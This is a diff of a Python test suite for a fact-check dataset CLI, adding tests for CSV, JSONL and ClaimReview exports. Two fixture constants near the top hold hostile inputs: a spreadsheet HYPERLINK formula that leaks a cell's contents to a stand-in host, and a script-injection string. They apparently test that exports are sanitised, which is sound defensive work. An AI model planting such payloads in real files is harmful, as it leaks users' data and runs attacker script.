@@ -8,11 +8,19 @@ import pytest
 from click.testing import CliRunner
 
 from claimset.cli import cli
+from claimset.export import RATING
+from claimset.schemas import CLAIM_TYPES, SETTLED_VERDICTS, VERDICTS
 from conftest import DATASET, SOURCE_ID, edit, tree_bytes
 
 STATEMENTS = DATASET / "data/statements/train-00000-of-00001.parquet"
 HOSTILE_CLAIM = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
 HOSTILE_NOTE = "</script><script>alert('note')</script><!--<script>"
+
+
+def statements():
+    frame = pd.read_parquet(STATEMENTS)
+    frame["verdict"] = frame["verdict"].map(dict(enumerate(VERDICTS)))
+    return frame
 
 
 def invoke(*args):
@@ -124,3 +132,95 @@ def test_export_refuses_a_read_only_file(tmp_path):
     assert result.output == (f"Error: refusing to export: {out} is read-only; make it writable (chmod u+w) or "
                              "write elsewhere\n")
     assert out.read_text(encoding="utf-8") == "keep\n"
+
+
+# --- formats ----------------------------------------------------------------------------------------
+
+def export(*args):
+    result = CliRunner().invoke(cli, ["export", *map(str, args)])
+    assert "Traceback" not in result.output
+    return result
+
+
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_table_exports_round_trip_through_validate(tmp_path, fmt):
+    out = tmp_path / f"statements.{fmt}"
+    result = export(DATASET, "--format", fmt, "-o", out)
+    assert result.exit_code == 0, result.output
+    check = CliRunner().invoke(cli, ["validate", str(out)])
+    assert check.exit_code == 0, check.output
+    assert check.output == f"{out}: valid (50 statements).\n"
+
+
+def test_csv_export_writes_label_names_and_json_lists(tmp_path):
+    out = tmp_path / "s.csv"
+    export(DATASET, "--format", "csv", "-o", out)
+    frame = pd.read_csv(out, keep_default_na=False)
+    assert set(frame["claim_type"]) <= set(CLAIM_TYPES)
+    assert json.loads(frame.loc[frame["statement_id"] == f"{SOURCE_ID}-s027-1", "evidence"].iloc[0])[0].startswith(
+        "The Asahi Shimbun")
+
+
+def test_jsonl_export_of_speakers(tmp_path):
+    out = tmp_path / "speakers.jsonl"
+    assert export(DATASET, "--format", "jsonl", "--config", "speakers", "-o", out).exit_code == 0
+    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
+    assert [r["speaker_id"] for r in rows][:2] == [f"{SOURCE_ID}-author", "vladimir-putin"]
+    assert rows[1]["aliases"] == ["President Vladimir Putin", "President Putin", "Putin"]
+
+
+def test_claimreview_structure_and_rating_map(tmp_path):
+    out = tmp_path / "claimreview.json"
+    assert export(DATASET, "--format", "claimreview", "-o", out).exit_code == 0
+    reviews = json.loads(out.read_text(encoding="utf-8"))
+    df = statements()
+    checked = df[df["verdict"] != "not_checked"].set_index("statement_id")
+    assert [r["identifier"] for r in reviews] == sorted(checked.index)
+    for review in reviews:
+        row = checked.loc[review["identifier"]]
+        assert review["@context"] == "https://schema.org" and review["@type"] == "ClaimReview"
+        assert review["claimReviewed"] == row["claim"]
+        assert review["datePublished"] == row["checked_on"].isoformat()
+        item = review["itemReviewed"]
+        assert item["@type"] == "Claim" and item["text"] == row["quote"]
+        assert item["author"]["name"] == row["speaker"]
+        assert item["appearance"]["@type"] == "CreativeWork" and item["appearance"]["identifier"] == SOURCE_ID
+        assert item.get("datePublished", item.get("temporalCoverage")) == row["date"]
+        rating = review["reviewRating"]
+        assert rating["alternateName"] == row["verdict"]
+        if row["verdict"] in SETTLED_VERDICTS:
+            assert (rating["ratingValue"], rating["worstRating"], rating["bestRating"]) == (
+                RATING[row["verdict"]], 1, 3)
+        assert review["citation"] == list(row["evidence"])
+    putin = next(r for r in reviews if r["identifier"] == f"{SOURCE_ID}-s027-1")
+    assert putin["itemReviewed"]["author"] == {"@type": "Person", "name": "Vladimir Putin",
+                                               "sameAs": "https://www.wikidata.org/wiki/Q7747"}
+    assert RATING == {"refuted": 1, "mixed": 2, "supported": 3}
+
+
+def test_claimreview_export_is_deterministic(tmp_path):
+    export(DATASET, "--format", "claimreview", "-o", tmp_path / "a.json")
+    export(DATASET, "--format", "claimreview", "-o", tmp_path / "b.json")
+    assert (tmp_path / "a.json").read_bytes() == (tmp_path / "b.json").read_bytes()
+
+
+def test_claimreview_needs_the_dataset_folder(tmp_path):
+    result = export(STATEMENTS, "--format", "claimreview", "-o", tmp_path / "x.json")
+    assert result.exit_code == 2
+    assert "ClaimReview needs the dataset folder (statements, speakers and sources)" in result.output
+
+
+def test_export_refuses_invalid_data(tmp_path):
+    df = pd.read_parquet(STATEMENTS)
+    df.loc[0, "paragraph"] = 0
+    df.to_parquet(tmp_path / "bad.parquet")
+    result = export(tmp_path / "bad.parquet", "--format", "csv", "-o", tmp_path / "out.csv")
+    assert result.exit_code == 1
+    assert f"Error: {tmp_path / 'bad.parquet'} is not valid; fix it (claimset validate" in result.output
+    assert not (tmp_path / "out.csv").exists()
+
+
+def test_export_requires_format_and_output():
+    result = export(DATASET)
+    assert result.exit_code == 2
+    assert "Missing option '--format'" in result.output
